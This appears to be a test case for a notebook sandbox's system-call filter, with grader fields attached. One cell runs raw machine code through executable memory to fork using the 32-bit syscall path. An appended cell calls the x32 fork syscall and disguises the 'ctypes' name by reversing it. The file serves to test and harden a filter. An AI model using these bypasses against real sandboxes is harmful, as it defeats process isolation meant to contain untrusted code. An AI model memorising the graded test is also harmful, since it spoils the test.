"""Forks by machine code that uses the 32-bit and the x32 numbers of system calls, which the filter may not know."""

CELL = """\
import ctypes, mmap
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(bytes.fromhex("b8 02 00 00 00 cd 80 c3".replace(" ", "")))  # mov eax, 2 (fork); int 0x80; ret
fork = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
found = fork()
print("attack" + "-won" if found >= 0 else "refused")
"""
COUNTER = "honest"
SCALE = "honest"
EXPECTED = 10
SAYS = "Cell 4 crashed the whole program (bad system call)"


def edit(notebook):
    x32 = """\
found = __import__("sepytc"[::-1]).CDLL(None, use_errno=True).syscall(0x40000000 + 57)
print("attack" + "-won" if found >= 0 else "refused")
"""
    cell = {"cell_type": "code", "id": "own-x32", "metadata": {}, "source": x32, "outputs": [], "execution_count": None}
    notebook["cells"].append(cell)
